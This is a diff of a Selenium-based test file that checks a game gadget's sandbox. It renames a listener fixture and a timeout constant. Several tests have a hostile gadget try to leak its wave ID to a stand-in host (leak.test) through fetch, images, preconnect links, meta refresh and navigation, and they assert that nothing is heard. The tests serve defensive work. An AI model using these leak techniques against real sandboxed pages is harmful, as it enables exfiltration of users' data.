@@ -16,7 +16,7 @@ from selenium.webdriver.support.ui import WebDriverWait
 
 from gomokutest import live
 from gomokutest.checks import same
-from gomokutest.environment import PATIENCE
+from gomokutest.environment import TIMEOUT
 from gomokutest.gadgets import WholeGadgetWindow
 
 MARKS = itertools.count(1)
@@ -279,7 +279,7 @@ class Mallory:
             text = self.log.read_text(encoding="utf-8", errors="replace")[self.read :]
             return text if mark in text else None
 
-        text = WebDriverWait(None, PATIENCE, 0.1).until(told, "the log of the network")
+        text = WebDriverWait(None, TIMEOUT, 0.1).until(told, "the log of the network")
         self.read += len(text)
         return sorted(set(re.findall(r"way\d+\.leak\.test", text)))
 
@@ -309,33 +309,33 @@ def mallory(logged_browser):
 
 
 @pytest.fixture
-def ear():
-    with Listener() as ear:
-        yield ear
+def listener():
+    with Listener() as listener:
+        yield listener
 
 
 # Addresses by host name, which could leak through a lookup, and by IP address.
 ADDRESSES = pytest.mark.parametrize("addresses", ["by_name", pytest.param("by_number", marks=pytest.mark.full)])
 
 
-def test_listener_records_an_unconfined_page(mallory, ear):
+def test_listener_records_an_unconfined_page(mallory, listener):
     """Proves that the listener and the log work. Otherwise the other tests could not fail."""
     mallory.window.driver.get(f"{mallory.server.url}/metrics")
     for number, way in enumerate(("peer", "fetch", "image")):
-        mallory.attempt(STAYING[way], ear.by_name(number))
-    told = " ".join(ear.received())
+        mallory.attempt(STAYING[way], listener.by_name(number))
+    told = " ".join(listener.received())
     assert "a packet of" in told and "GET /fetch" in told and "GET /image" in told, told
     same(mallory.names(), ["way0.leak.test", "way1.leak.test", "way2.leak.test"], "names in the log")
 
 
 @ADDRESSES
-def test_confined_gadget_sends_nothing_out(mallory, ear, addresses):
+def test_confined_gadget_sends_nothing_out(mallory, listener, addresses):
     """Tries peer connections, windows, links, forms, images, styles, workers, frames and resource
     hints."""
     window = mallory.window
     window.open("hostile.xml", "stays")
     for number, code in enumerate(STAYING.values()):
-        mallory.attempt(code, getattr(ear, addresses)(number))
+        mallory.attempt(code, getattr(listener, addresses)(number))
     # A browser loads images late, when it has nothing else to do.
     window.until(
         "all pictures are settled", "return document.images.length > 1 && [...document.images].every(i => i.complete)"
@@ -348,16 +348,16 @@ def test_confined_gadget_sends_nothing_out(mallory, ear, addresses):
     same(
         window.script("return typeof RTCPeerConnection + typeof webkitRTCPeerConnection"), "undefinedundefined", "peers"
     )
-    same(ear.received(), [], "what was heard outside")
+    same(listener.received(), [], "what was heard outside")
     same(mallory.names(), [], "names that the browser's network was asked for")
 
 
 @ADDRESSES
 @pytest.mark.parametrize("ways", [slice(5), slice(5, None)], ids=["to an address", "by a link, a form or a document"])
-def test_gadget_that_leaves_its_frame_sends_nothing_out(mallory, ear, ways, addresses):
+def test_gadget_that_leaves_its_frame_sends_nothing_out(mallory, listener, ways, addresses):
     """Tries the gadget's own navigation, and pages that it navigates to."""
     window = mallory.window
-    leak = ear.by_name(len(LEAVING))["WEB"]
+    leak = listener.by_name(len(LEAVING))["WEB"]
     mallory.server.put(
         "leaves.html", f"<link rel=preconnect href={leak}/><meta http-equiv=refresh content='0; url={leak}/x'>"
     )
@@ -365,16 +365,16 @@ def test_gadget_that_leaves_its_frame_sends_nothing_out(mallory, ear, ways, addr
         # Each attempt gets a separate tab, where a navigation has time to finish.
         window.driver.switch_to.new_window("tab")
         window.open("hostile.xml", "leaves")
-        mallory.attempt(f"setTimeout(function () {{ {code} }})", getattr(ear, addresses)(number))
-    same(ear.received(), [], "what was heard outside")
+        mallory.attempt(f"setTimeout(function () {{ {code} }})", getattr(listener, addresses)(number))
+    same(listener.received(), [], "what was heard outside")
     same(mallory.names(), [], "names that the browser's network was asked for")
 
 
 def test_clicked_link_is_offered_with_its_whole_address(pair):
     """Links in a drawing are included. No window opens, and the gadget stays."""
     ann = pair.open_one("hostile.xml")
-    with Listener() as ear:
-        web = ear.by_number()["WEB"]
+    with Listener() as listener:
+        web = listener.by_number()["WEB"]
         ann.script(f"""document.body.insertAdjacentHTML('afterbegin',
             '<p><a id=out href={web}/link?' + wave.getWaveId() + '>out</a> <button id=opens>open</button></p>'
             + '<svg width=99 height=30><a href={web}/drawn><text id=drawn y=20>drawn</text></a></svg>'
@@ -414,7 +414,7 @@ def test_clicked_link_is_offered_with_its_whole_address(pair):
             ann.page_until("offered, whole", offered, "/aside")
             ann.page_click("#link-dismiss")
         same(len(ann.driver.window_handles), 1, "no window")
-        same(ear.received(), [], "what was heard outside")
+        same(listener.received(), [], "what was heard outside")
         same(ann.script("return typeof wave"), "object", "the gadget is still there")
 
 
@@ -438,12 +438,12 @@ def middle_click(window, selector):
 
 def test_gadget_that_left_its_frame_is_reported_and_reloadable(pair):
     ann = pair.open_one("hostile.xml")
-    with Listener() as ear:
+    with Listener() as listener:
         ann.script(
-            f"setTimeout(function () {{ location.href = '{ear.by_number()['WEB']}/leave?' + wave.getWaveId(); }})"
+            f"setTimeout(function () {{ location.href = '{listener.by_number()['WEB']}/leave?' + wave.getWaveId(); }})"
         )
         ann.page_until("it is told", "return document.querySelector('#trouble [data-key=gone]') !== null")
-        same(ear.received(), [], "what was heard outside")
+        same(listener.received(), [], "what was heard outside")
     ann.reload()
     ann.until("loaded again", "return typeof wave !== 'undefined' && wave.getState() !== null")
     same(ann.page("return document.querySelector('#trouble [data-key=gone]')"), None, "the report after the reload")
